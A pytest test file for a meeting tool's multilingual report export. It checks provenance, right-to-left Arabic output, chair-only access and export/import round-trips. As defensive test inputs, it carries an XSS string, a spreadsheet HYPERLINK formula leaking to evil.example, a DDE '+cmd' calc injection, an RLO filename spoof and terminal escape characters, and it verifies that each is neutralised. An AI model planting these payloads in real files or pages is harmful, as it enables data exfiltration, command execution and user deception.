"""The outcome report: a meeting built over real clients, exported in every format and read back.

Checks provenance (group, original language, original text) for every contribution, cluster, vote
and recommendation; that markup, formulas and control characters stay inert; that the Arabic DOCX
is right-to-left; that only the chair exports; and that export → import gives the same meeting.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
import zipfile

import pytest
import requests
from markupsafe import escape

from support import ARTIFACTS, ROOT, ServerProcess, key_of, wait_until

sys.path.insert(0, ROOT)
from facilitator.meeting import report  # noqa: E402
from facilitator.meeting.i18n import UI_LANGUAGES, language_name  # noqa: E402
from facilitator.meeting.report import safe_text, translated  # noqa: E402
from facilitator.meeting.report_csv import csv_cell  # noqa: E402
from facilitator.meeting.report_markdown import md_escape  # noqa: E402

# The report's labels as the catalogs give them, per language.
LABELS = {lang: translated(report.LABELS, lang) for lang in UI_LANGUAGES}
KIND_LABELS = {lang: translated(report.KIND_LABELS, lang) for lang in UI_LANGUAGES}
AGREEMENT_LABELS = {lang: translated(report.AGREEMENT_LABELS, lang) for lang in UI_LANGUAGES}
REASON_LABELS = {lang: translated(report.REASON_LABELS, lang) for lang in UI_LANGUAGES}

MARKUP = "<script>alert('x')</script> **gras** [lien](javascript:alert(1)) <img src=x onerror=alert(2)> # titre"
FORMULA = '=HYPERLINK("http://evil.example/?leak","cliquez ici")'
RLO = "Safe corridors \u202egnp.exe\u202c for workers"
MULTILINE = "First line of a practice\nSecond line: 1. not a list\n- nor this"

# id -> (group, question, lang, kind, agreement, text)
CONTRIBUTIONS = {
    "afr-labour-01": ("africa", "s2-q1", "en", "good_practice", "consensus",
                      "Bilateral labour migration agreements that protect migrant workers' rights"),
    "eca-labour-01": ("europe-central-asia", "s2-q1", "en", "good_practice", "divergent",
                      "Labour migration agreements between countries protecting the rights of migrant workers"),
    "amr-labour-01": ("americas", "s2-q1", "es", "good_practice", "consensus",
                      "Acuerdos bilaterales de migración laboral que protejan los derechos de los trabajadores migrantes"),
    "mena-warning-1": ("mena", "s2-q1", "ar", "innovative_solution", "consensus",
                       "أنظمة الإنذار المبكر للنزوح الناجم عن تغير المناخ في المناطق الساحلية"),
    "asp-markup-01": ("asia-pacific", "s2-q1", "fr", "principle", "majority", MARKUP),
    "afr-formula-1": ("africa", "s2-q2", "en", "recommendation", "consensus", FORMULA),
    "eca-formula-1": ("europe-central-asia", "s2-q2", "fr", "gap", "majority", "+cmd|' /C calc'!A0"),
    "mena-reco-0001": ("mena", "s2-q2", "ar", "recommendation", "consensus",
                       "إنشاء آلية إقليمية لتبادل البيانات بشأن الهجرة بين العمليات الاستشارية الإقليمية"),
    "amr-minus-001": ("americas", "s2-q2", "es", "commitment", "divergent", "-2+3 compromisos verificables"),
    "asp-rlo-00001": ("asia-pacific", "s2-q2", "en", "partnership", "consensus", RLO),
    "asp-multi-001": ("asia-pacific", "s2-q3", "en", "other", "consensus", MULTILINE),
}
DELETED = "afr-deleted-1"
CLUSTER_TITLE = "Labour migration agreements <b>protect</b> rights"
WORDING_FR = "Les mécanismes de consultation devraient promouvoir des accords bilatéraux de migration de main-d'œuvre qui protègent les droits des travailleurs migrants."
WORDING_AR = "توصي الآلية بإنشاء منصة إقليمية لتبادل البيانات بشأن الهجرة."
FORMATS = ("docx", "html", "md", "csv", "json")


def group_key(links, gid):
    return key_of(next(g for g in links["groups"] if g["id"] == gid)["rapporteur_url"])


def join(url, links, region):
    r = requests.post(f"{url}/api/m/{links['meeting_id']}/participants",
                      json={"code": links["join_code"], "region": region, "lang": "en"})
    assert r.status_code == 200, r.text
    return r.json()["key"]


def state_of(url, mid, key):
    r = requests.get(f"{url}/api/m/{mid}/state", params={"key": key})
    assert r.status_code == 200, r.text
    return r.json()


def export(url, mid, key, fmt, lang="en"):
    r = requests.get(f"{url}/api/m/{mid}/report.{fmt}", params={"key": key, "lang": lang}, timeout=120)
    assert r.status_code == 200, (fmt, r.status_code, r.text[:500])
    return r


def import_archive(path, data_dir):
    return subprocess.run([sys.executable, os.path.join(ROOT, "run.py"), "import-meeting", str(path),
                           "--data", str(data_dir), "--json"],
                          cwd=ROOT, capture_output=True, text=True, timeout=60)


@pytest.fixture(scope="module")
def meeting(tmp_path_factory):
    """One meeting with contributions in four languages, clusters, two ballots and an outcome."""
    from support import Client

    data = tmp_path_factory.mktemp("report")
    server = ServerProcess(str(data)).start()
    clients = []

    def connect(key):
        client = Client(server.url, links["meeting_id"], key)
        clients.append(client)
        return client

    try:
        links = server.create_meeting()
        mid = links["meeting_id"]
        chair_key = key_of(links["chair_url"])
        chair = connect(chair_key)
        raps = {}
        for cid, (gid, qid, lang, kind, agreement, text) in CONTRIBUTIONS.items():
            rap = raps.get(gid) or raps.setdefault(gid, connect(group_key(links, gid)))
            ack = rap.op("contribution.add", id=cid, question_id=qid, text=text, lang=lang, kind=kind,
                         agreement=agreement)
            assert ack["ok"], (cid, ack)
        # A deleted contribution never reaches the report.
        assert raps["africa"].op("contribution.add", id=DELETED, question_id="s2-q1", text="Withdrawn text zzqx",
                                 lang="en", kind="other", agreement="consensus")["ok"]
        assert raps["africa"].op("contribution.delete", contribution_id=DELETED)["ok"]

        # The synthesis: the labour agreements converge; the chair makes sure of the Spanish one.
        url = f"{server.url}/api/m/{mid}/synthesis"

        def labour_cluster():
            result = requests.get(url, params={"key": chair_key, "question": "s2-q1"}, timeout=90).json()
            for q in result.get("questions", []):
                for cl in q["converging"]:
                    if "afr-labour-01" in cl["contributions"] and "eca-labour-01" in cl["contributions"]:
                        return cl
            return None

        cluster = wait_until(labour_cluster, "the labour-agreement point in the synthesis", timeout=90)
        cluster_id = cluster["id"]
        if "amr-labour-01" not in cluster["contributions"]:
            assert chair.op("cluster.merge", cluster_id="c-amr-labour-01", into=cluster_id)["ok"]
        assert chair.op("cluster.title", cluster_id=cluster_id, title=CLUSTER_TITLE)["ok"]

        # The outcome: two contributions and the cluster, with wordings, in the chair's order.
        assert chair.op("outcome.mark", cluster_id=cluster_id)["ok"]
        assert chair.op("outcome.mark", contribution_id="afr-formula-1")["ok"]
        assert chair.op("outcome.mark", contribution_id="mena-reco-0001")["ok"]
        assert chair.op("outcome.wording", cluster_id=cluster_id, text=WORDING_FR, lang="fr")["ok"]
        assert chair.op("outcome.wording", contribution_id="mena-reco-0001", text=WORDING_AR, lang="ar")["ok"]
        order = ["contribution:mena-reco-0001", f"cluster:{cluster_id}", "contribution:afr-formula-1"]
        assert chair.op("outcome.order", order=order)["ok"]

        # Ballot b1 (yes/no, closed): at least three voters in each of three regions, with re-votes.
        ballot_items = ["afr-labour-01", "mena-warning-1", "eca-labour-01"]
        assert chair.op("ballot.open", contribution_ids=ballot_items, mode="yes_no",
                        prompt="Could this work in your region? =1+1")["ok"]
        plan = {"africa": ["yes", "yes", "no"], "mena": ["yes", "unsure", "yes"],
                "europe-central-asia": ["no", "no", "no", "yes"], None: ["yes"]}
        voter_keys = []
        for region, choices in plan.items():
            for i, choice in enumerate(choices):
                key = join(server.url, links, region)
                voter_keys.append((region, key))
                voter = connect(key)
                for n, cid in enumerate(ballot_items):
                    first = "unsure" if choice != "unsure" else "no"
                    assert voter.op("vote.cast", ballot_id="b1", contribution_id=cid, choice=first)["ok"]
                    final = choice if n != 1 else ("yes" if region == "mena" else choice)
                    assert voter.op("vote.cast", ballot_id="b1", contribution_id=cid, choice=final)["ok"]
        assert chair.op("ballot.close", ballot_id="b1")["ok"]
        # Ballot b2 (dots, left open): some of the same people vote again.
        assert chair.op("ballot.open", contribution_ids=["mena-reco-0001", "afr-formula-1"], mode="dots", dots=3)["ok"]
        for region, key in voter_keys[:7]:
            voter = connect(key)
            assert voter.op("vote.cast", ballot_id="b2", contribution_id="mena-reco-0001", dots=2)["ok"]
            assert voter.op("vote.cast", ballot_id="b2", contribution_id="afr-formula-1", dots=1)["ok"]

        results = {b: requests.get(f"{server.url}/api/m/{mid}/ballots/{b}", params={"key": chair_key}).json()
                   for b in ("b1", "b2")}
        yield {"server": server, "links": links, "mid": mid, "chair_key": chair_key, "cluster_id": cluster_id,
               "order": order, "results": results, "voter_keys": voter_keys, "tmp": data}
    finally:
        for client in clients:
            client.close()
        server.stop()


def expected_texts():
    return {cid: safe_text(v[5]) for cid, v in CONTRIBUTIONS.items()}


def docx_text(content: bytes) -> str:
    import docx

    document = docx.Document(io.BytesIO(content))
    parts = [p.text for p in document.paragraphs]
    for table in document.tables:
        for row in table.rows:
            for cell in row.cells:
                parts.extend(p.text for p in cell.paragraphs)
    return "\n".join(parts)


def vote_figures(results):
    """The per-region and overall figures as the report writes them: 'yes / no / unsure'."""
    figures = []
    for row in results["results"]:
        if "counts" in row:
            c = row["counts"]
            figures.append(f"{c['yes']} / {c['no']} / {c['unsure']}")
            for cell in row["by_region"].values():
                if cell:
                    figures.append(f"{cell['yes']} / {cell['no']} / {cell['unsure']}")
        else:
            for cell in row["by_region"].values():
                if cell:
                    figures.append(f"{cell['dots']} ({cell['supporters']}/{cell['voters']})")
    return figures


# ----- every format, read back ------------------------------------------------------------------


def test_csv_has_every_contribution_with_provenance(meeting):
    r = export(meeting["server"].url, meeting["mid"], meeting["chair_key"], "csv")
    assert r.headers["Content-Type"].startswith("text/csv")
    assert "attachment" in r.headers["Content-Disposition"]
    rows = list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))
    by_id = {row["contribution_id"]: row for row in rows}
    assert set(by_id) == set(CONTRIBUTIONS)  # the deleted one is not there
    names = {"africa": "Africa", "europe-central-asia": "Europe and Central Asia", "americas": "Americas and the Caribbean",
             "mena": "Middle East and North Africa", "asia-pacific": "Asia and the Pacific"}
    for cid, (gid, qid, lang, kind, agreement, text) in CONTRIBUTIONS.items():
        row = by_id[cid]
        assert row["group"] == names[gid] and row["group_id"] == gid
        assert row["language"] == lang and row["question_id"] == qid
        assert row["kind"] == KIND_LABELS["en"][kind] and row["agreement"] == AGREEMENT_LABELS["en"][agreement]
        assert row["text"] == csv_cell(safe_text(text))
        assert row["session"].startswith("Session 2")
    # Formulas are inert: the cell starts with a quote, the text after it is intact.
    assert by_id["afr-formula-1"]["text"] == "'" + FORMULA
    assert by_id["eca-formula-1"]["text"].startswith("'+cmd")
    assert by_id["amr-minus-001"]["text"].startswith("'-2+3")
    for row in rows:
        for value in row.values():
            assert not value or value[0] not in "=+-@\t\r", value
    # The cluster and the votes are on the rows.
    for cid in ("afr-labour-01", "eca-labour-01", "amr-labour-01"):
        assert meeting["cluster_id"] in by_id[cid]["cluster"]
        assert CLUSTER_TITLE in by_id[cid]["cluster"]
    b1 = {row["contribution_id"]: row for row in meeting["results"]["b1"]["results"]}
    c = b1["afr-labour-01"]["counts"]
    assert f"b1: Yes {c['yes']} · No {c['no']} · Unsure {c['unsure']} ({b1['afr-labour-01']['turnout']})" in by_id["afr-labour-01"]["votes"]
    assert "b2: Dots" in by_id["mena-reco-0001"]["votes"]
    assert by_id["mena-reco-0001"]["forwarded"] == "yes" and by_id["afr-labour-01"]["forwarded"] == "yes"
    assert by_id["asp-rlo-00001"]["text"] == "Safe corridors [RLO]gnp.exe[PDF] for workers"
    assert by_id["asp-multi-001"]["text"] == MULTILINE


def test_docx_has_everything_with_provenance(meeting):
    r = export(meeting["server"].url, meeting["mid"], meeting["chair_key"], "docx")
    assert r.content[:2] == b"PK"
    text = docx_text(r.content)
    for cid, t in expected_texts().items():
        assert t in text, cid
    for name in ("Africa", "Europe and Central Asia", "Americas and the Caribbean", "Middle East and North Africa",
                 "Asia and the Pacific", "Arabic", "English", "French", "Spanish"):
        assert name in text
    assert "Withdrawn text zzqx" not in text
    L = LABELS["en"]
    for label in ("report", "recommendations", "proceedings", "converging", "diverging", "votes", "contributions_by_group"):
        assert L[label] in text
    # Recommendations first, in the chair's order, with their wordings.
    first = text.index(L["recommendations"])
    positions = [text.index("Recommendation 1"), text.index("Recommendation 2"), text.index("Recommendation 3")]
    assert first < positions[0] < positions[1] < positions[2] < text.index(L["proceedings"])
    assert positions[0] < text.index(WORDING_AR) < positions[1] < text.index(WORDING_FR) < positions[2]
    assert CLUSTER_TITLE in text
    assert REASON_LABELS["en"]["divergent_views"] in text and REASON_LABELS["en"]["agreement_differs"] in text
    for figure in vote_figures(meeting["results"]["b1"]) + vote_figures(meeting["results"]["b2"]):
        assert figure in text, figure
    assert "Could this work in your region? =1+1" in text
    # The Word XML holds the text as text: no markup survives as markup.
    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
        xml = z.read("word/document.xml").decode("utf-8")
    assert "<script" not in xml and "&lt;script&gt;" in xml


def test_html_is_escaped_and_has_everything(meeting):
    r = export(meeting["server"].url, meeting["mid"], meeting["chair_key"], "html")
    assert r.headers["Content-Type"].startswith("text/html")
    body = r.text
    assert re.search(r'<html lang="en" dir="ltr">', body)
    assert "<script" not in body and "style=" not in body and "<style" not in body
    assert "/static/css/report.css" in body
    for cid, (gid, qid, lang, *_rest) in CONTRIBUTIONS.items():
        assert str(escape(safe_text(CONTRIBUTIONS[cid][5]))) in body, cid
    assert f'lang="ar" dir="auto">{escape(CONTRIBUTIONS["mena-warning-1"][5])}<' in body
    assert str(escape(CLUSTER_TITLE)) in body and str(escape(WORDING_FR)) in body and WORDING_AR in body
    for figure in vote_figures(meeting["results"]["b1"]):
        assert figure in body
    assert "Withdrawn text zzqx" not in body
    # The page works without script and inside the app's content security policy.
    assert "script-src 'self'" in r.headers.get("Content-Security-Policy", "")
    css = requests.get(meeting["server"].url + "/static/css/report.css")
    assert css.status_code == 200 and "@media print" in css.text


def test_markdown_is_escaped_and_has_everything(meeting):
    r = export(meeting["server"].url, meeting["mid"], meeting["chair_key"], "md")
    body = r.text
    for cid, (gid, qid, lang, kind, agreement, text) in CONTRIBUTIONS.items():
        first_line = md_escape(safe_text(text)).split("\n")[0]
        assert first_line in body, cid
    # Nothing the user typed is markup: no raw tag, link, emphasis or heading from them.
    assert not re.search(r"(?<!\\)<", body), "an unescaped < reached the Markdown"
    assert "[lien](javascript" not in body and "\\[lien\\]\\(javascript\\:alert\\(1\\)\\)" in body
    assert "\\*\\*gras\\*\\*" in body and "\\# titre" in body
    assert "\\- nor this" in body  # a line that would have started a list
    assert md_escape(CLUSTER_TITLE) in body and md_escape(WORDING_FR) in body
    assert "Middle East and North Africa" in body and md_escape("Arabic (ar)") in body
    for figure in vote_figures(meeting["results"]["b1"]):
        assert figure in body


def test_json_archive_has_no_secrets_and_unlinkable_votes(meeting):
    r = export(meeting["server"].url, meeting["mid"], meeting["chair_key"], "json")
    archive = r.json()
    assert archive["format"] == "facilitator-archive" and archive["version"] == 1
    assert archive["meeting_id"] == meeting["mid"] and archive["exported_at"]
    events = archive["events"]
    assert events[0]["type"] == "meeting.created"
    raw = r.text
    links = meeting["links"]
    for secret in [key_of(links["chair_url"]), key_of(links["plenary_url"]), links["join_code"]] + \
            [key_of(g["rapporteur_url"]) for g in links["groups"]] + [k for _, k in meeting["voter_keys"]]:
        assert secret not in raw
    # No voter token appears in two ballots; each is registered with its region.
    tokens = {}
    for e in events:
        if e["type"] == "vote.cast":
            tokens.setdefault(e["ballot_id"], set()).add(e["participant_id"])
    assert len(tokens["b1"]) == 11 and len(tokens["b2"]) == 7
    assert not tokens["b1"] & tokens["b2"]
    joined = {e["participant_id"]: e["region"] for e in events if e["type"] == "participant.joined"}
    assert all(t in joined for t in tokens["b1"] | tokens["b2"])
    # The report is there too, with the recommendations in order.
    refs = [rec["ref"] for rec in archive["report"]["recommendations"]]
    assert refs == meeting["order"]
    rec = archive["report"]["recommendations"][1]
    assert rec["wording"]["text"] == WORDING_FR and rec["wording"]["source"] == "chair"
    assert {s["id"] for s in rec["sources"]} >= {"afr-labour-01", "eca-labour-01", "amr-labour-01"}
    for s in rec["sources"]:
        assert s["text"] == CONTRIBUTIONS[s["id"]][5] and s["lang"] == CONTRIBUTIONS[s["id"]][2] and s["group"]


# ----- Arabic ----------------------------------------------------------------------------------


def test_arabic_docx_is_right_to_left(meeting):
    r = export(meeting["server"].url, meeting["mid"], meeting["chair_key"], "docx", lang="ar")
    os.makedirs(ARTIFACTS, exist_ok=True)
    with open(os.path.join(ARTIFACTS, "report-ar.docx"), "wb") as handle:  # to render and look at
        handle.write(r.content)
    with zipfile.ZipFile(io.BytesIO(r.content)) as z:
        xml = z.read("word/document.xml").decode("utf-8")
        styles = z.read("word/styles.xml").decode("utf-8")
    from lxml import etree

    ns = {"w": "http://schemas.openxmlformats.org/wordprocessingml/2006/main"}
    root = etree.fromstring(xml.encode("utf-8"))
    arabic_text = CONTRIBUTIONS["mena-warning-1"][5]
    found = body_paragraph = False
    for p in root.iter("{%s}p" % ns["w"]):
        text = "".join(p.itertext())
        if text == arabic_text:
            found = True
            assert p.find("w:pPr/w:bidi", ns) is not None
            # Right-aligned: justified (w:jc both, last line at the start) in the body; in a table
            # cell no w:jc, i.e. the start. Never w:jc right: in a bidi paragraph that is the end (left).
            jc = p.find("w:pPr/w:jc", ns)
            in_cell = p.getparent().tag == "{%s}tc" % ns["w"]
            if in_cell:
                assert jc is None
            else:
                assert jc is not None and jc.get("{%s}val" % ns["w"]) == "both"
                body_paragraph = True
            for run in p.findall("w:r", ns):
                assert run.find("w:rPr/w:rtl", ns) is not None
                fonts = run.find("w:rPr/w:rFonts", ns)
                assert fonts.get("{%s}cs" % ns["w"]) in ("Noto Naskh Arabic", "Arial")
                assert run.find("w:rPr/w:lang", ns).get("{%s}bidi" % ns["w"]) == "ar-SA"
    assert found and body_paragraph, "the Arabic contribution is not one paragraph of its own"
    # Labels are Arabic and the document is laid out right to left.
    assert LABELS["ar"]["recommendations"] in xml and LABELS["ar"]["converging"] in xml
    assert root.find(".//w:body/w:sectPr/w:bidi", ns) is not None
    assert root.find(".//w:tblPr/w:bidiVisual", ns) is not None
    assert 'w:cs="Noto Naskh Arabic"' in styles
    # An English contribution inside the Arabic report keeps left-to-right.
    for p in root.iter("{%s}p" % ns["w"]):
        if "".join(p.itertext()) == CONTRIBUTIONS["afr-labour-01"][5]:
            assert p.find("w:pPr/w:bidi", ns) is None
    text = docx_text(r.content)
    for t in expected_texts().values():
        assert t in text
    assert "أفريقيا" in text and "العربية" in text

    html = export(meeting["server"].url, meeting["mid"], meeting["chair_key"], "html", lang="ar").text
    assert '<html lang="ar" dir="rtl">' in html
    assert LABELS["ar"]["recommendations"] in html


@pytest.mark.parametrize("lang", ["ar", "en", "fr", "es"])
def test_labels_cover_every_language(lang):
    for table in (LABELS, KIND_LABELS, AGREEMENT_LABELS, REASON_LABELS):
        assert set(table[lang]) == set(table["en"])
        assert all(isinstance(v, str) and v for v in table[lang].values())
        if lang == "ar":  # read from the Arabic catalog, not the English source text
            assert all(re.search("[\u0600-\u06FF]", v) for v in table[lang].values()), table[lang]
    names = [language_name(code, lang) for code in UI_LANGUAGES]
    assert all(name and name not in UI_LANGUAGES for name in names), names


# ----- who may export ------------------------------------------------------------------------


def test_only_the_chair_exports(meeting):
    url, mid, links = meeting["server"].url, meeting["mid"], meeting["links"]
    participant = meeting["voter_keys"][0][1]
    for key in (key_of(links["plenary_url"]), group_key(links, "africa"), participant):
        for fmt in FORMATS:
            r = requests.get(f"{url}/api/m/{mid}/report.{fmt}", params={"key": key})
            assert r.status_code == 403, (fmt, r.status_code)
            assert r.json() == {"ok": False, "error": {"code": "forbidden", "message": r.json()["error"]["message"]}}
    r = requests.get(f"{url}/api/m/{mid}/report.docx")
    assert r.status_code == 401 and r.json()["error"]["code"] == "unauthorized"
    r = requests.get(f"{url}/api/m/{mid}/report.docx", params={"key": "wrong"})
    assert r.status_code == 401 and r.json()["error"]["code"] == "unauthorized"
    r = requests.get(f"{url}/api/m/nosuchmeeting/report.docx", params={"key": meeting["chair_key"]})
    assert r.status_code == 404 and r.json()["error"]["code"] == "not_found"
    r = requests.get(f"{url}/api/m/{mid}/report.exe", params={"key": meeting["chair_key"]})
    assert r.status_code == 404


def test_archive_has_its_own_name_and_keeps_the_old_one(meeting):
    url, mid, links = meeting["server"].url, meeting["mid"], meeting["links"]
    for path in ("archive.json", "report.json"):
        r = requests.get(f"{url}/api/m/{mid}/{path}", params={"key": meeting["chair_key"]})
        assert r.status_code == 200, (path, r.text[:300])
        assert r.json()["format"] == "facilitator-archive" and r.json()["meeting_id"] == mid
        assert r.headers["Content-Disposition"] == f'attachment; filename="meeting-{mid}.json"'
    r = requests.get(f"{url}/api/m/{mid}/archive.json", params={"key": key_of(links["plenary_url"])})
    assert r.status_code == 403 and r.json()["error"]["code"] == "forbidden"
    r = requests.get(f"{url}/api/m/{mid}/archive.json")
    assert r.status_code == 401 and r.json()["error"]["code"] == "unauthorized"


# ----- export, import, same meeting -----------------------------------------------------------


def test_export_then_import_gives_the_same_meeting(meeting, tmp_path):
    url, mid = meeting["server"].url, meeting["mid"]
    archive = export(url, mid, meeting["chair_key"], "json").json()
    path = tmp_path / "meeting.json"
    path.write_text(json.dumps(archive, ensure_ascii=False), encoding="utf-8")

    # A crafted archive (another id) with control characters in a contribution: inert on export.
    crafted = json.loads(json.dumps(archive))
    crafted["meeting_id"] = "ctrltest0001"
    crafted["events"][0]["meeting"]["id"] = "ctrltest0001"
    for e in crafted["events"]:
        if e["type"] == "contribution.added" and e["contribution"]["id"] == "asp-multi-001":
            e["contribution"]["text"] = "Bell\x07 escape\x1b[31m red\x85 next\x00 nul\u202e end"
    crafted_path = tmp_path / "crafted.json"
    crafted_path.write_text(json.dumps(crafted), encoding="utf-8")

    data = tmp_path / "restored"
    out = import_archive(path, data)
    assert out.returncode == 0, out.stderr
    links = json.loads(out.stdout)
    assert links["meeting_id"] == mid and links["chair_url"] and links["join_code"]
    assert key_of(links["chair_url"]) != meeting["chair_key"]
    again = import_archive(path, data)
    assert again.returncode != 0
    assert "already exists" in again.stderr and mid in again.stderr
    out = import_archive(crafted_path, data)
    assert out.returncode == 0, out.stderr
    crafted_links = json.loads(out.stdout)

    server = ServerProcess(str(data)).start()
    try:
        before = state_of(url, mid, meeting["chair_key"])
        after = state_of(server.url, mid, key_of(links["chair_url"]))
        for field in ("contributions", "order", "curation", "outcome", "ballots", "session_id", "locks"):
            assert after[field] == before[field], field
        assert after["meeting"] == before["meeting"]
        for b in ("b1", "b2"):
            restored = requests.get(f"{server.url}/api/m/{mid}/ballots/{b}",
                                    params={"key": key_of(links["chair_url"])}).json()
            assert restored == meeting["results"][b]
        # The restored meeting exports the same report.
        again = export(server.url, mid, key_of(links["chair_url"]), "csv").content.decode("utf-8-sig")
        original = export(url, mid, meeting["chair_key"], "csv").content.decode("utf-8-sig")
        assert again == original

        key = key_of(crafted_links["chair_url"])
        for fmt in ("csv", "md", "html", "docx"):
            content = export(server.url, "ctrltest0001", key, fmt).content
            text = docx_text(content) if fmt == "docx" else content.decode("utf-8-sig")
            for bad in ("\x07", "\x1b", "\x85", "\x00", "\u202e"):
                assert bad not in text, (fmt, repr(bad))
            assert "Bell\u2407 escape\u241b" in text.replace("\\", ""), fmt
            assert "[RLO]" in text.replace("\\", ""), fmt
    finally:
        server.stop()


def test_safe_text_and_escapers():
    assert safe_text("a\x07b\x1bc\x7fd\x85e\u202ef\ufefftab\there\r\nnext") == \
        "a\u2407b\u241bc\u2421d[U+0085]e[RLO]ftab\there\nnext"
    assert safe_text("\ud800x\uffff") == "\ufffdx\ufffd"
    assert safe_text("مرحبا\u200fبكم") == "مرحبا\u200fبكم"  # RLM is kept: it is typography
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("@SUM(A1)") == "'@SUM(A1)" and csv_cell("ok=1") == "ok=1"
    assert csv_cell("\tx") == "'\tx" and csv_cell("＝1") == "'＝1"
    assert md_escape("[a](b) <i> *c* `d` 1. e") == "\\[a\\]\\(b\\) \\<i\\> \\*c\\* \\`d\\` 1. e"
    assert md_escape("1. list\n# head\n> quote\n- item") == "1\\. list\n\\# head\n\\> quote\n\\- item"
    assert md_escape("see https://x.example and a@b.c") == "see https\\://x.example and a\\@b.c"
